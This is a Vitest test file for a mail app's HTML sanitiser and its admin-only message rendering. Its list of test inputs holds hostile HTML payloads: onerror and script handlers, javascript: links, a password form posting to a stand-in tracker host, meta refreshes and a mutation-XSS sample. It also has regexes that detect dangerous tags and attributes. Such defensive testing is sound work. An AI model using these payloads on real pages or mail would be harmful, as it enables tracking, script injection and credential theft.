import { expect, test } from "vitest";
import { arrive } from "#lib/testing/arrive.ts";
import { alex, sam } from "#lib/testing/cast.ts";
import { aMail } from "#lib/testing/incoming.ts";
import { loadAsHtml, safeHtml } from "./as-html.ts";

/** What would load, run, be sent or lead away. */
const hostile = [
  '<img src="https://tracker.example/p.gif">',
  '<img src="//tracker.example/p.gif">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src=x onerror="fetch(`https://tracker.example`)">',
  '<div style="background:url(https://tracker.example/p.gif)">x</div>',
  '<div style="background-image:url(https://tracker.example/p.gif)">x</div>',
  '<div style="color:red;width:expression(alert(1))">x</div>',
  "<style>@import url(https://tracker.example/a.css);</style>",
  '<link rel="stylesheet" href="https://tracker.example/a.css">',
  '<meta http-equiv="refresh" content="0;url=https://tracker.example">',
  '<base href="https://tracker.example/">',
  '<form action="https://tracker.example"><input name="password"><button>Send</button></form>',
  '<iframe src="https://tracker.example"></iframe><object data="https://tracker.example"></object>',
  '<svg><image href="https://tracker.example/p.png"/><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
  "<script>document.location='https://tracker.example'</script>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://tracker.example" ping="https://tracker.example">x</a>',
  '<video poster="https://tracker.example/p.png"><source src="https://tracker.example/v.mp4"></video>',
  '<table background="https://tracker.example/p.png"><tr><td>x</td></tr></table>',
];

test.each(hostile)("nothing is left of %s that could load, run, be sent or lead anywhere", (html) => {
  const safe = safeHtml(html);
  expect(safe).not.toMatch(/<(script|style|link|meta|base|form|input|iframe|object|svg|math|video|source)/i);
  expect(safe).not.toMatch(/\s(href|src|background|poster|ping|action|on\w+)=["']?(?!data:image\/png)/i);
  expect(safe).not.toMatch(/url\(|expression|javascript:/i);
});

test("words, layout and pictures that came along stay; a link says where it would lead", () => {
  expect(safeHtml('<p style="color: #333333">Hello <b>you</b></p>')).toBe(
    '<p style="color:#333333">Hello <b>you</b></p>',
  );
  expect(safeHtml('<img src="data:image/png;base64,AAAA" alt="us">')).toContain("data:image/png");
  expect(safeHtml('<a href="https://example.org/x">here</a>')).toBe(
    '<a title="https://example.org/x">here</a>',
  );
  expect(safeHtml("<div>".repeat(50_000)).length).toBeLessThan(2_000);
});

test("a message as it was laid out is shown to admins alone, with the pictures inside it", async () => {
  const { threadId, messageId } = await arrive(
    aMail(
      { "MIME-Version": "1.0", "Content-Type": "multipart/related; boundary=part" },
      [
        "--part",
        "Content-Type: text/html; charset=utf-8",
        "",
        '<p>Us, last year: <img src="cid:us"></p><img src="https://tracker.example/p.gif">',
        "--part",
        "Content-Type: image/png",
        "Content-ID: <us>",
        "Content-Transfer-Encoding: base64",
        "",
        "iVBORw0KGgo=",
        "--part--",
      ].join("\r\n"),
    ),
  );
  const html = await loadAsHtml(await alex(), { threadId, messageId });
  expect(html).toContain("data:image/png;base64,iVBORw0KGgo=");
  expect(html).not.toContain("tracker.example");
  expect(await loadAsHtml(await sam(), { threadId, messageId })).toBe(null);
  const plain = await arrive();
  expect(await loadAsHtml(await alex(), plain)).toBe(null);
});
